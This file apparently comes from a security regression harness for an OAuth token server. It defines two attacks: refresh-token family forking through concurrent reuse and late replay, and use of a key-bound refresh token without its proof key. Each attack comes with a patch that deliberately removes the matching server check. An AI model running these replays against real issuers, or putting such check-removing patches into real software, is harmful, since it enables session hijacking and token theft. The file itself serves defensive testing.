import { newKey, post, postWithProof } from '../thief.mjs'
import { tokensOf } from '../world.mjs'

const GRANT = 'packages/server/dist/grants/refresh-token.js'
const HOLDER = 'packages/server/dist/tokens/refresh-holder.js'
const told = ({ status, body }) => `${status} ${body.error ?? 'with tokens'}`

export const attacks = [
  {
    id: 'A25',
    title: 'CVE-2026-53517: a family of refresh tokens forks',
    weakening: [{ file: GRANT, find: 'current || inGrace ? undefined : usedBefore()', put: 'undefined' }],
    async attack(world) {
      const key = await newKey()
      const { refresh_token: first } = await tokensOf(world, key)
      const refresh = (token) =>
        postWithProof(`${world.issuer}/token`, { grant_type: 'refresh_token', client_id: 'native', refresh_token: token }, key)
      const all = await Promise.all(Array.from({ length: 50 }, () => refresh(first)))
      const successors = new Set(all.flatMap(({ body }) => body.refresh_token ?? []))
      // After the grace of one second the thief shows the old one again.
      await new Promise((resolve) => setTimeout(resolve, 2100))
      const late = await refresh(first)
      const current = await refresh([...successors][0])
      const won = successors.size !== 1 || late.body.access_token !== undefined || current.body.access_token !== undefined
      return { won, how: `${successors.size} successor of 50 at once; late: ${told(late)}; the family then: ${told(current)}` }
    },
  },
  {
    id: 'A33',
    title: 'keycloak#36475: a bound refresh token is used without its key',
    weakening: [{ file: HOLDER, find: 'if (family.jkt !== undefined &&', put: 'if (false &&' }],
    async attack(world) {
      const { refresh_token: token } = await tokensOf(world, await newKey())
      const fields = { grant_type: 'refresh_token', client_id: 'native', refresh_token: token }
      const answers = [await post(`${world.issuer}/token`, fields), await postWithProof(`${world.issuer}/token`, fields, await newKey())]
      return {
        won: answers.some(({ body }) => body.access_token !== undefined),
        how: `without a proof ${told(answers[0])}, with another key ${told(answers[1])}`,
      }
    },
  },
]
